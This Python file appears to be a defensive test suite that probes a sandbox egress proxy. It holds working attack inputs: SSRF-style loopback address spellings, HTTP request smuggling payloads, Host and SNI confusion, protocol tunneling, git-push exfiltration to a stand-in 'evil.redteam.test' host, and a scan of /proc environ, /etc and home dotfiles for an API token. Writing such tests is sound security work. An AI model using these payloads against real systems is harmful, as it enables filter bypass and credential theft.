# SPDX-License-Identifier: Apache-2.0
import glob
import hashlib
import os
import re

from common import ALLOWED, API, DECOY, MARK, PLACEHOLDER, Through, https, raw, refused, request


def both(host):
    return {refused(request(host=host, path="/" + MARK)), refused(https(host))}


def unlisted():
    return ", ".join(sorted(both("evil.redteam.test")))


def address_spellings():
    seen = set()
    for host in ("127.0.0.1:%d" % DECOY, "2130706433:%d" % DECOY, "0x7f000001", "0177.0.0.1", "127.1", "[::1]:%d" % DECOY,
                 "[::ffff:7f00:1]", "8.8.8.8", "localhost", "1.1.1.1.", "xn--127-0-0-1.test"):
        seen.add(refused(request(host=host, path="/" + MARK), 400, 403, 421))
    return ", ".join(sorted(seen))


def other_port():
    return refused(request(host=ALLOWED + ":%d" % DECOY, path="/" + MARK))


def other_sni():
    status, data = https(ALLOWED, name=API)
    if status:
        raise Through("answered with %d" % status)
    return data.decode(errors="replace")[:60]


def other_host():
    return refused(https(ALLOWED, inner="evil.redteam.test", path="/" + MARK))


def head(*lines, body=b""):
    first = b"POST http://%s/%s HTTP/1.1" % (ALLOWED.encode(), MARK.encode())
    return b"\r\n".join([first, b"Host: " + ALLOWED.encode(), b"Connection: close"] + list(lines)) + b"\r\n\r\n" + body


def two_hosts():
    return refused(raw(head(b"Host: evil.redteam.test", b"Content-Length: 0")), 400)


SMUGGLED = b"0\r\n\r\nGET /%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (MARK.encode(), ALLOWED.encode())


def cl_te():
    return refused(raw(head(b"Content-Length: %d" % len(SMUGGLED), b"Transfer-Encoding: chunked", body=SMUGGLED)), 400)


def te_te():
    return ", ".join(sorted({refused(raw(head(te, body=SMUGGLED)), 400) for te in (
        b"Transfer-Encoding: xchunked", b"Transfer-Encoding : chunked", b"Transfer-Encoding: chunked, identity",
        b"Transfer-Encoding:\x0bchunked", b"X: y\rTransfer-Encoding: chunked")}))


def bare_lf():
    return refused(raw(head(b"X: y\nContent-Length: 0")), 400)


def obs_fold():
    return refused(raw(head(b"X: y\r\n z", b"Content-Length: 0")), 400)


def not_http():
    return ", ".join(sorted({refused(raw(octets + MARK.encode() + b"\r\n" * 5, ALLOWED, 80)) for octets in (
        b"SSH-2.0-OpenSSH_9.2\r\n", b"\0\1\2\3", b"EHLO x\r\n", b"\x05\x01\0")}))


def push():
    return refused(request("POST", "/x.git/git-receive-pack", headers=[("Content-Type", "application/x-git-receive-pack-request")],
                           body=MARK.encode()), 403)


def dot_segments():
    status, _ = request(path="/%2e%2e/%2e%2e/", headers=[("X-Forwarded-Host", "evil.redteam.test")])
    return "answered with %d by the allowed host" % status if status else "closed"


def foreign_credential():
    return ", ".join(sorted({refused(https(API, headers=[h]), 403) for h in (
        ("Authorization", "Bearer " + MARK), ("X-Api-Key", MARK), ("Authorization", "Basic " + MARK))}))


def placeholder_leak():
    return refused(https(ALLOWED, headers=[("Authorization", "Bearer " + PLACEHOLDER)]), 403)


def find_credential():
    """The real token has this shape; it is put into requests to API on the host."""
    shape = re.compile(rb"redteam-token-[a-z2-7]{32}")
    status, data = https(API, path="/reflect", headers=[("Authorization", "Bearer " + PLACEHOLDER)])
    if status != 200:
        return "the API answered with %d" % status
    where = [("an answer that reflects it", data)]
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/etc/*") + \
            glob.glob("/home/node/.*") + glob.glob("/run/*") + ["/proc/kmsg", "/proc/cmdline"]:
        try:
            if os.path.isfile(path) and path != "/proc/kmsg":
                where.append((path, open(path, "rb").read(1 << 20)))
        except OSError:
            pass
    for name, octets in where:
        if shape.search(octets):
            raise Through("the token is in %s (%s)" % (name, hashlib.sha256(octets).hexdigest()[:8]))
    return "masked in the answer, absent from %d files" % (len(where) - 1)
